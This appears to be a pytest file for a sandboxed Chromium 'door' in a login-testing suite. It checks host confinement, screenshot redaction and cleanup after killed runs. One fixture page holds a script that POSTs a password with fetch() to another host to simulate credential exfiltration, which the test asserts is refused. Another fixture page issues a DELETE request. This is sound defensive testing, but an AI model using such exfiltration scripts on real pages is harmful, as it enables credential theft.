"""The browser as a door: whom it reaches, what it is kept from, what a picture may show, what a run leaves of it."""

import os
import signal
import struct
import subprocess
import sys
import tempfile
import time
import tomllib
from pathlib import Path

import pytest

from fixtures.doors.browser import launching
from fixtures.doors.browser.chromium import Chromium
from fixtures.doors.browser.door import BrowserDoor
from fixtures.estate import parse_estate
from fixtures.login.journey import new_jar
from fixtures.model.outcomes import LARGEST_PICTURE
from fixtures.model.redaction import redactor
from fixtures.model.secret import Secret
from fixtures.model.signals import NotVerified
from selftests.support import browser
from selftests.support.http_door import ESTATE, URL, door
from selftests.support.suite_runs import ROOT, run_suite

GATED = "http://gated.example:9000"
PASSWORD = "correct-horse-battery-staple"
MAIL = "erika.mustermann@example.org"
TOKEN = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJwcm9iZSJ9.c2lnbmF0dXJl"


def test_names_lead_to_the_estates_hosts_and_no_other_name_resolves():
    estate = parse_estate(tomllib.loads(ESTATE.format(port=1234)), "test")
    *rules, last = launching.resolver_rules(estate).split(",")
    assert "MAP auth.example:9000 127.0.0.1:1234" in rules
    assert last == "MAP * ~NOTFOUND"
    assert all(rule.endswith(" 127.0.0.1:1234") for rule in rules)


def test_an_estate_that_is_not_isolated_resolves_its_own_names_alone():
    text = ESTATE.format(port=1).replace("isolated = true", "isolated = false").replace("connect_to", "#connect_to")
    *rules, last = launching.resolver_rules(parse_estate(tomllib.loads(text), "test")).split(",")
    assert "MAP auth.example:9000 auth.example:9000" in rules
    assert last == "MAP * ~NOTFOUND"


def test_a_stranger_is_counted_and_not_asked(site, visiting):
    _, pages, seen = site
    pages["/stranger"] = "<img src='http://stranger.example/pixel'><script src='http://127.0.0.1:1/x.js'></script>"
    tab, _ = visiting(f"{URL}/stranger")
    assert dict(tab.strangers) == {("auth.example", "stranger.example"): 1, ("auth.example", "127.0.0.1"): 1}
    assert tab.client.ledger.strangers == tab.strangers
    assert {host for _, host, _ in seen} <= {"auth.example:9000", "gated.example:9000"}


def test_a_credential_leaves_for_authentik_alone(site, visiting):
    _, pages, seen = site
    secret = Secret(PASSWORD, place="probe_user.password")
    pages["/steal"] = (
        f"<script>fetch('{GATED}/taken', {{method: 'POST', mode: 'no-cors', body: '{PASSWORD}'}})</script>"
    )
    _, record = visiting(f"{URL}/steal")
    assert secret
    assert not [path for _, _, path in seen if path == "/taken"]
    refused = [exchange for exchange in record.exchanges if exchange.error]
    assert "where it does not belong" in refused[0].error


def test_a_page_may_not_delete(site, visiting):
    _, pages, seen = site
    pages["/deleting"] = "<script>fetch('/thing', {method: 'DELETE'})</script>"
    visiting(f"{GATED}/deleting")
    assert not [path for method, _, path in seen if method == "DELETE"]


def test_what_is_noted_has_no_query(site, visiting):
    _, record = visiting(f"{URL}/callback?code=c0de&state=5tate")
    assert [exchange.url for exchange in record.exchanges] == [f"{URL}/callback"]


def test_what_pages_are_made_of_is_no_question_asked_twice(site, visiting):
    """However often it is shown: they were told apart by addresses in memory, which are given to others later."""
    _, pages, _ = site
    pages["/made"] = "<script src='/a.js'></script>"
    for _ in range(3):
        tab, _ = visiting(f"{URL}/made")
    assert tab.client.ledger.requests["browser", "GET", "auth.example"] >= 6
    assert not [number for number in tab.client.ledger.questions.values() if number > 1]


READ = """(() => {
  const all = (root) => [root.textContent, ...[...root.querySelectorAll("*")].flatMap(one)];
  const one = (element) => [element.value ?? "", ...(element.shadowRoot ? all(element.shadowRoot) : [])];
  document.querySelectorAll("script").forEach((script) => script.remove());
  return all(document.body).join(" ");
})()"""


def text_after(site, visiting, html):
    """What can be read on a page after its picture was taken, the fields' values with it; and the picture."""
    read = {}

    async def act(tab):
        await tab.picture("a page")
        read["text"] = await tab.ask(READ)

    site[1]["/picture"] = html
    _, record = visiting(f"{URL}/picture", act)
    (picture,) = record.pictures
    return read["text"], picture


SHADOW = (
    "<x-card></x-card><script>customElements.define('x-card', class extends HTMLElement {{ connectedCallback() {{"
    " this.attachShadow({{mode: 'open'}}).innerHTML = `{}`; }} }})</script>"
)


@pytest.mark.parametrize("frame", ["{}", SHADOW], ids=["document", "shadow root"])
def test_fields_and_addresses_are_masked_before(site, visiting, frame):
    fields = f"<input type=password value={PASSWORD}><input name=code value=123456><input value={MAIL}> {MAIL} Anna"
    text, picture = text_after(site, visiting, frame.format(fields))
    assert picture.data, picture.why_not
    assert not [canary for canary in (PASSWORD, "123456", MAIL) if canary in text]
    assert "Anna" in text


@pytest.mark.parametrize("frame", ["{}", SHADOW], ids=["document", "shadow root"])
@pytest.mark.parametrize(
    "shown", [TOKEN, PASSWORD, "a3f5" * 10, "<input value=" + TOKEN + ">", f"<b title={TOKEN}>x</b>"]
)
def test_a_page_that_shows_a_token_has_no_picture(site, visiting, frame, shown):
    redactor.learn(PASSWORD)
    _, picture = text_after(site, visiting, frame.format(f"<p>{shown}</p>"))
    assert picture.data == b""
    assert "token" in picture.why_not or "secret" in picture.why_not


def test_a_picture_is_small_and_says_nothing_of_itself(site, visiting):
    noise = "".join(f"<i style='background:hsl({i * 37 % 360} 90% 50%)'>{i}</i> " for i in range(9000))
    _, picture = text_after(site, visiting, noise)
    assert 0 < len(picture.data) <= LARGEST_PICTURE
    assert picture.data[:4] + picture.data[8:12] == b"RIFFWEBP"
    names, at = set(), 12
    while at < len(picture.data):
        names.add(picture.data[at : at + 4])
        (length,) = struct.unpack_from("<I", picture.data, at + 4)
        at += 8 + length + length % 2
    assert names <= {b"VP8 ", b"VP8L", b"VP8X", b"ALPH"}


def test_the_browser_is_told_whom_to_trust_by_what_the_run_has_seen_already(run_of):
    """The certificates are looked at by SMOKE-TLS-01 anyway: eight of eight were asked for a second time."""
    browser.required()
    run = run_of("--lab", "--browser", "-k", "SEEN or TLS")
    assert (run.red, run.report["effort"]["repeated_questions"]) == (set(), 0)


def test_a_browser_for_people_serves_as_well(tmp_path, run_of):
    """Where there is no Chromium without windows, one with them is taken, and what it shows is judged alike."""
    browser.required("chromium")
    alone = tmp_path / "chromium"
    alone.write_text('#!/bin/sh\nPATH=/usr/bin:/bin exec /usr/bin/chromium "$@"\n')
    alone.chmod(0o755)
    given = ("--lab", "--browser", "-k", "SEEN")
    with_windows = run_suite(*given, environment={"PATH": str(tmp_path)})
    assert with_windows.outcomes == run_of(*given).outcomes
    assert not with_windows.named("not verified")


def test_without_a_browser_it_says_what_to_install(monkeypatch):
    monkeypatch.setattr(launching, "PROGRAMS", ("no-such-browser",))
    with pytest.raises(NotVerified, match="there is no Chromium here") as missing:
        launching.program()
    assert "apt-get install chromium" in missing.value.remedy
    assert missing.value.need == "chromium"


def own_processes(marker):
    """The processes that carry this marker in their environment."""
    found = []
    for entry in Path("/proc").glob("[0-9]*/environ"):
        try:
            if marker in entry.read_bytes():
                found.append(int(entry.parent.name))
        except OSError:
            continue
    return found


@pytest.fixture
def short_path():
    """A folder whose name is short: below a long one Chromium has no room for the name of its socket."""
    with tempfile.TemporaryDirectory(dir="/tmp", ignore_cleanup_errors=True) as made:
        yield Path(made)


def test_a_browser_that_does_not_start_says_why_itself(site, tmp_path, monkeypatch):
    browser.required("chromium")  # the one without windows has no socket, and would start
    monkeypatch.setattr(launching, "PROGRAMS", ("chromium",))
    (long := tmp_path / ("a" * 100)).mkdir()
    monkeypatch.setenv("TMPDIR", str(long))
    monkeypatch.setattr(tempfile, "tempdir", None)
    port, _, _ = site
    _, record, client = door(port)
    chromium = Chromium(client, list)
    with pytest.raises(NotVerified, match="does not start: Socket path too long"):
        BrowserDoor(chromium, client, record).visit(lambda tab: tab.open(URL), jar=new_jar())
    chromium.stop()


@pytest.mark.parametrize("number", [signal.SIGKILL, signal.SIGTERM])
def test_a_killed_run_leaves_neither_browser_nor_profile(short_path, number):
    browser.required()
    marker = f"TMPDIR={short_path}".encode()
    command = [sys.executable, "-m", "pytest", "--lab", "--browser", "-k", "SEEN", "-p", "no:cacheprovider"]
    known = {name: value for name, value in os.environ.items() if not name.startswith(("PYTEST_", "SSO_"))}
    output = short_path / "stdout"
    profiles = "playwright_chromiumdev_profile-*"
    written = f"{profiles}/*"  # an empty one is the driver's alone: there is no Chromium yet
    with output.open("w") as stream:
        run = subprocess.Popen(
            [*command, f"--reports={short_path}/reports"],
            cwd=ROOT,
            env=known | {"TMPDIR": str(short_path)},
            stdout=stream,
            stderr=stream,
        )
    try:
        started = eventually(lambda: list(short_path.glob(written)) or run.poll() is not None)
        assert started, output.read_text()
        assert run.poll() is None, output.read_text()
        run.send_signal(number)
        run.wait(60)
    finally:
        run.kill()
        run.wait()
    assert eventually(lambda: not own_processes(marker))
    assert eventually(lambda: not list(short_path.glob(profiles)))


def eventually(so, seconds=60):
    """Whether something becomes so."""
    ends = time.monotonic() + seconds
    while time.monotonic() < ends:
        if found := so():
            return found
        time.sleep(0.1)
    return so()
